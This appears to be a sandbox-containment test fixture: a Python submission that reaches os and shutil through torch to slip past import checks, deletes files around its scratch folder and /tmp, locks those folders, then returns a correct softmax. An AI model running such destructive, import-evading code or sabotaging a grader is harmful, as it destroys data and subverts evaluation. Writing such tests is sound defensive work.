"""Attack: deletes whatever it can find around its scratch folder (the worker's scratch root, and
under namespaces all of the sandbox's private /tmp) and makes those folders unwritable, so that
the sandbox cannot grade the next submission. Then it answers correctly. (Under the process
fallback it leaves the machine's shared /tmp alone: that is not the sandbox's to test.)

needs: namespaces-or-root
expect: contained
policy: refused
"""
import torch

os = torch.os
shutil = torch.sys.modules["shutil"]
here = os.getcwd()
roots = [os.path.dirname(here)]
if os.environ.get("D2LCOACH_ISOLATION") == "namespaces":
    roots.append("/tmp")
for root in roots:
    try:
        names = os.listdir(root)
    except OSError:
        continue
    for name in names:
        path = os.path.join(root, name)
        if path == here:
            continue
        try:
            shutil.rmtree(path)
        except OSError:
            try:
                os.unlink(path)
            except OSError:
                pass
for root in roots:
    try:
        os.chmod(root, 0o500)
    except OSError:
        pass


def softmax(X, dim=-1):
    e = (X - X.amax(dim=dim, keepdim=True)).exp()
    return e / e.sum(dim=dim, keepdim=True)
